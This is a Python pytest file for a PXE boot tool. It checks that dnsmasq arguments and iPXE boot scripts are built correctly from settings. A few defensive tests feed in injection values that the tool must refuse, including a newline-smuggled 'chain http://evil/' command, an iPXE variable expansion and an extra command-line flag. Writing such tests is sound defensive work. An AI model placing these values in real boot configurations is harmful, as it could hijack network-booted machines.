"""dnsmasq's argv and the iPXE scripts, rendered from settings."""

from __future__ import annotations

from pathlib import Path

import pytest

from pxe.dnsmasq import DnsmasqError, DnsmasqSettings, Machine, Mode, normalize_mac, render_argv
from pxe.script import MachineParams, ScriptError, boot_script, chain_script, cmdline

URL = "http://10.9.0.1:8080/pxe/boot.ipxe"


def settings(**changes: object) -> DnsmasqSettings:
    base: dict[str, object] = {"interface": "eth0", "tftp_root": Path("/usr/lib/ipxe"), "script_url": URL}
    base.update(changes)
    return DnsmasqSettings(**base)  # type: ignore[arg-type]


def test_proxy_mode_is_the_default_and_answers_through_pxe_services() -> None:
    argv = render_argv(settings(network="10.9.0.0/24"))
    assert argv[0] == "dnsmasq"
    assert "--keep-in-foreground" in argv
    assert "--port=0" in argv
    assert "--interface=eth0" in argv
    assert "--bind-interfaces" in argv
    assert tuple(a for a in argv if a.startswith(("--user", "--group"))) == ("--user=nobody", "--group=nogroup")
    assert "--dhcp-range=10.9.0.0,proxy,255.255.255.0" in argv
    assert "--pxe-service=tag:!ipxe,x86PC,DebVisor,undionly.kpxe" in argv
    assert "--pxe-service=tag:!ipxe,X86-64_EFI,DebVisor,ipxe.efi" in argv
    assert f"--pxe-service=tag:ipxe,x86PC,DebVisor,{URL}" in argv
    assert f"--pxe-service=tag:ipxe,X86-64_EFI,DebVisor,{URL}" in argv
    assert not any(a.startswith("--dhcp-boot") for a in argv)
    assert "--dhcp-userclass=set:ipxe,iPXE" in argv
    assert "--enable-tftp" in argv
    assert "--tftp-root=/usr/lib/ipxe" in argv
    assert not any(a == "--enable-ra" for a in argv)


def test_full_mode_leases_a_range_and_chainloads_by_user_class_and_arch() -> None:
    argv = render_argv(settings(mode=Mode.FULL, range_start="10.9.0.100", range_end="10.9.0.199", lease_seconds=600))
    assert "--dhcp-range=10.9.0.100,10.9.0.199,600" in argv
    assert "--dhcp-boot=tag:!ipxe,tag:!efi64,undionly.kpxe" in argv
    assert "--dhcp-boot=tag:!ipxe,tag:efi64,ipxe.efi" in argv
    assert f"--dhcp-boot=tag:ipxe,{URL}" in argv
    assert "--dhcp-match=set:efi64,option:client-arch,7" in argv
    assert not any(a.startswith("--pxe-service") for a in argv)


def test_an_ipv6_prefix_adds_router_advertisements() -> None:
    argv = render_argv(settings(network="10.9.0.0/24", ipv6_prefix="fd00:9::/64"))
    assert "--enable-ra" in argv
    assert "--dhcp-range=fd00:9::,ra-only" in argv
    with pytest.raises(DnsmasqError, match="/64"):
        render_argv(settings(network="10.9.0.0/24", ipv6_prefix="fd00:9::/48"))


def test_machines_are_tagged_and_only_known_restricts_boot_files() -> None:
    machines = (Machine("52-54-00-AA-BB-01"), Machine("525400aabb02", ip="10.9.0.50"))
    argv = render_argv(
        settings(mode=Mode.FULL, range_start="10.9.0.100", range_end="10.9.0.199", machines=machines, only_known=True)
    )
    assert "--dhcp-host=52:54:00:aa:bb:01,set:debvisor" in argv
    assert "--dhcp-host=52:54:00:aa:bb:02,set:debvisor,10.9.0.50" in argv
    assert f"--dhcp-boot=tag:debvisor,tag:ipxe,{URL}" in argv
    with pytest.raises(DnsmasqError, match="full DHCP"):
        render_argv(settings(network="10.9.0.0/24", machines=(Machine("52:54:00:aa:bb:01", ip="10.9.0.5"),)))


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({}, "proxy mode needs"),
        ({"mode": Mode.FULL, "range_start": "10.9.0.9", "range_end": "10.9.0.1"}, "below"),
        ({"mode": Mode.FULL, "range_start": "x", "range_end": "10.9.0.1"}, "range_start"),
        ({"network": "10.9.0.0/24", "interface": "eth0 --x"}, "interface"),
        ({"network": "10.9.0.0/24", "script_url": "tftp://x/y"}, "script_url"),
        ({"network": "10.9.0.0/24", "script_url": "http://x/y,z"}, "script_url"),
    ],
)
def test_bad_settings_name_the_setting(changes: dict[str, object], message: str) -> None:
    with pytest.raises(DnsmasqError, match=message):
        render_argv(settings(**changes))


def test_mac_addresses_are_normalized() -> None:
    assert normalize_mac("52:54:00:AB:CD:EF") == "52:54:00:ab:cd:ef"
    assert normalize_mac("5254.00ab.cdef") == "52:54:00:ab:cd:ef"
    for bad in ("52:54:00:ab:cd", "zz:54:00:ab:cd:ef", "52:54:00:ab:cd:ef:01"):
        with pytest.raises(DnsmasqError):
            normalize_mac(bad)


BASE = "http://10.9.0.1:8080/pxe"


def test_chain_script_asks_again_with_the_mac() -> None:
    assert chain_script(BASE + "/") == "#!ipxe\nchain http://10.9.0.1:8080/pxe/boot.ipxe?mac=${netX/mac}\n"


def test_boot_script_loads_kernel_and_initrd_and_passes_the_machines_settings() -> None:
    script = boot_script(BASE, MachineParams(name="rack1-n3", enrol="dve_eyJhIjoxfQ", extra=("quiet",)))
    lines = script.splitlines()
    assert lines[0] == "#!ipxe"
    assert lines[1].startswith(f"kernel {BASE}/vmlinuz initrd=initrd.img boot=live fetch={BASE}/filesystem.squashfs ")
    assert "console=ttyS0,115200n8" in lines[1]
    assert lines[1].endswith(
        f"debvisor.name=rack1-n3 debvisor.enrol=dve_eyJhIjoxfQ debvisor.enlist={BASE}/enlist "
        "BOOTIF=01-${netX/mac:hexhyp} quiet"  # no MAC known here: iPXE fills it in
    )
    assert lines[2:] == [f"initrd {BASE}/initrd.img", "boot"]


def test_boot_script_names_the_port_the_machine_booted_from() -> None:
    # iPXE expands ${netX/mac:hexhyp} to aa-bb-cc-dd-ee-ff; bootparams reads it as BOOTIF.
    assert "BOOTIF=01-${netX/mac:hexhyp}" in boot_script(BASE, MachineParams()).split()


def test_a_machine_without_settings_boots_with_defaults_and_is_told_where_to_enlist() -> None:
    args = cmdline(BASE, MachineParams())
    assert [a for a in args if a.startswith("debvisor.")] == [f"debvisor.enlist={BASE}/enlist"]
    assert "BOOTIF=01-${netX/mac:hexhyp}" in args  # the MAC is not known here: iPXE fills it in


def test_a_known_mac_is_passed_as_bootif_so_the_machine_knows_which_nic_booted() -> None:
    args = cmdline(BASE, MachineParams(mac="52:54:00:aa:bb:01"))
    assert "BOOTIF=01-52-54-00-aa-bb-01" in args
    with pytest.raises(ScriptError, match="mac"):
        cmdline(BASE, MachineParams(mac="52:54:00:AA:BB:01 x"))


def test_the_rendered_enlist_url_is_one_the_booted_appliance_accepts() -> None:
    from appliance.bootparams import parse_cmdline

    params = parse_cmdline(" ".join(cmdline(BASE, MachineParams(name="rack1-n3", mac="52:54:00:aa:bb:01"))))
    assert (params.enlist, params.boot_mac, params.name) == (f"{BASE}/enlist", "52:54:00:aa:bb:01", "rack1-n3")


@pytest.mark.parametrize(
    "params",
    [
        MachineParams(name="Bad_Name"),
        MachineParams(enrol="tok en"),
        MachineParams(enrol="${net0/ip}"),
        MachineParams(extra=("debvisor.join=dvj_abc",)),  # a join token would be readable by anyone
        MachineParams(extra=("debvisor.enrol=dve_abc",)),
        MachineParams(extra=("a\nchain http://evil/",)),
        MachineParams(extra=('x="y z"',)),
        MachineParams(extra=("#comment",)),
    ],
)
def test_values_that_could_escape_an_argument_are_refused(params: MachineParams) -> None:
    with pytest.raises(ScriptError):
        boot_script(BASE, params)


def test_the_base_url_must_be_plain_http() -> None:
    with pytest.raises(ScriptError):
        chain_script("https://x/pxe")
    with pytest.raises(ScriptError):
        boot_script("http://x/pxe ${y}", MachineParams())
